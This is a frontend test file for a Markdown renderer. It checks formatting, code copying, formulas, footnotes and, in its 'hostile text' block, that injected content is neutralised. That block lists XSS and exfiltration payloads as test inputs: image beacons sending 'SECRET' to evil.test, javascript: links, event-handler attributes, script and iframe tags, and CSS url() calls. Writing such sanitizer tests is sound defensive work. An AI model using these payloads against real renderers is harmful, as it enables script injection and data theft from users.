import { screen, waitFor, within } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import { render } from "../../testing/render";
import { Markdown } from "./markdown";

describe("markdown", () => {
  test("shows headings, lists, tables and tasks", () => {
    render(
      <Markdown text={"## Stock\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] packed\n- [ ] sent"} />,
    );
    expect(screen.getByRole("heading", { level: 2, name: "Stock" })).toBeVisible();
    expect(
      within(screen.getByRole("table"))
        .getAllByRole("cell")
        .map((cell) => cell.textContent),
    ).toEqual(["1", "2"]);
    expect(screen.getByRole("checkbox", { name: "done" })).toBeChecked();
    expect(screen.getByRole("checkbox", { name: "not done" })).not.toBeChecked();
  });

  test("colours code of a known language, and copies it as it is", async () => {
    const { user } = render(<Markdown text={'```python\nprint("hi")\n```'} />);
    const block = screen.getByRole("figure", { name: "python" });
    await waitFor(() => expect(block.querySelector(".hljs-string")).toHaveTextContent('"hi"'));
    await user.click(within(block).getByRole("button", { name: "Copy code" }));
    expect(await navigator.clipboard.readText()).toBe('print("hi")');
    expect(within(block).getByRole("button", { name: "Copied" })).toBeVisible();
  });

  test("sets formulas", async () => {
    const { container } = render(<Markdown text={"So $a^2$ is the area.\n\n$$\n\\sqrt{2}\n$$"} />);
    await waitFor(() => expect(container.querySelectorAll(".katex")).toHaveLength(2), { timeout: 4000 });
    expect(container.querySelectorAll(".katex-display")).toHaveLength(1);
  });

  test("links open beside the page and tell nothing of it", () => {
    render(<Markdown text="[the docs](https://example.com/)" />);
    const link = screen.getByRole("link", { name: "the docs" });
    expect(link).toHaveAttribute("target", "_blank");
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  });

  test("footnotes lead to their texts and back", () => {
    render(<Markdown text={"A claim.[^1]\n\nMore.\n\n[^1]: Its source."} />);
    const there = screen.getByRole("link", { name: "1" });
    const note = document.getElementById(there.getAttribute("href")?.slice(1) ?? "");
    expect(note).toHaveTextContent("Its source.");
    expect(screen.getByRole("link", { name: "Back to the text" })).toHaveAttribute("href", `#${there.id}`);
  });

  test("links whose address stands elsewhere in the text work once it is whole", () => {
    render(<Markdown text={"See [the docs][d].\n\nMore.\n\n[d]: https://example.com/"} />);
    expect(screen.getByRole("link", { name: "the docs" })).toHaveAttribute("href", "https://example.com/");
  });

  test("what is not closed yet is not shown as bare signs", () => {
    const { container } = render(<Markdown growing text={"It is **very import"} />);
    expect(container).toHaveTextContent("It is very import");
    expect(container).not.toHaveTextContent("*");
  });
});

describe("a hostile text", () => {
  test.each([
    "![x](https://evil.test/p.png?d=SECRET)",
    "![x][r]\n\n[r]: https://evil.test/p.png?d=SECRET",
    '<img src="https://evil.test/p.png?d=SECRET">',
    '<img src=x onerror="alert(1)"><svg onload=alert(1)>',
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '<iframe src="https://evil.test/"></iframe>',
    '<style>body { background: url("https://evil.test/") }</style>',
    "<script>alert(1)</script>",
    '<div style="background:url(https://evil.test/)">x</div>',
    '<form action="https://evil.test/"><input name="q"></form>',
    "![x](javascript:alert(1))",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.test/p.png}$",
    '[x](https://evil.test/ "title\\" onmouseover=alert(1)")',
    '<https://evil.test/"onmouseover=alert(1)>',
  ])("loads and runs nothing: %j", async (text) => {
    const { container } = render(<Markdown text={text} />);
    await waitFor(() => undefined);
    expect(
      container.querySelector("img, script, iframe, style, svg:not([aria-hidden]), form, object, embed"),
    ).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      for (const name of element.getAttributeNames()) expect(name).not.toMatch(/^on|^srcset$|^background$/);
      expect(element.getAttribute("style") ?? "").not.toMatch(/url\(/i);
      expect(element.getAttribute("href") ?? "").not.toMatch(/^\s*javascript:/i);
    }
  });

  test("says where an image would have come from", () => {
    render(<Markdown text="![a beacon](https://evil.test/p.png?d=SECRET)" />);
    expect(screen.getByRole("link", { name: "Image at evil.test, not loaded" })).toBeVisible();
  });

  test("shows our own images", async () => {
    const artifact = () => Promise.resolve(new Blob(["x"], { type: "image/png" }));
    render(<Markdown text="![a chart](/api/artifacts/art_1)" />, { artifact });
    await waitFor(() =>
      expect(screen.getByRole("img", { name: "a chart" })).toHaveAttribute("src", expect.stringMatching(/^blob:/)),
    );
  });

  test("keeps code readable that looks like HTML", () => {
    const { container } = render(<Markdown text={"a <b>bold</b> & `x<y`"} />);
    expect(container).toHaveTextContent("x<y");
  });
});
